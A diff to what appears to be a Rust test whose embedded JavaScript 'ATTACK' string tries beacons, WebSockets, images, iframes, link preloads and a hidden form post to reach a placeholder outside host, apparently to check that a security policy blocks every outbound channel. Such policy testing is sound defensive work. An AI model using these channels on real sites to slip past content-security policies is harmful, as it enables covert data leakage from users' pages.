@@ -52,12 +52,13 @@ const ATTACK: &str = r#"
         try { navigator.sendBeacon('@ELSEWHERE@/beacon', 'x'); } catch {}
         try { new WebSocket('@ELSEWHERE@/socket'.replace('http', 'ws')); } catch {}
         new Image().src = '@ELSEWHERE@/image';
-        const make = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
+        // Trusted Types refuse some of these fields outright, and the policy the rest.
+        const make = (tag, fields) => { try { document.body.append(Object.assign(document.createElement(tag), fields)); } catch {} };
         make('iframe', { src: '@ELSEWHERE@/frame' });
         make('object', { data: '@ELSEWHERE@/object' });
         make('audio', { src: '@ELSEWHERE@/sound', preload: 'auto' });
         for (const rel of ['stylesheet', 'preload', 'manifest'])
-            document.head.append(Object.assign(document.createElement('link'), { rel, as: 'fetch', href: `@ELSEWHERE@/${rel}` }));
+            make('link', { rel, as: 'fetch', href: `@ELSEWHERE@/${rel}` });
         const form = Object.assign(document.createElement('form'), { action: '@ELSEWHERE@/form', method: 'post', target: 'hidden' });
         document.body.append(form); form.submit();
         const paint = document.createElement('style'); paint.textContent = 'body { outline: 7px solid red }'; document.head.append(paint);
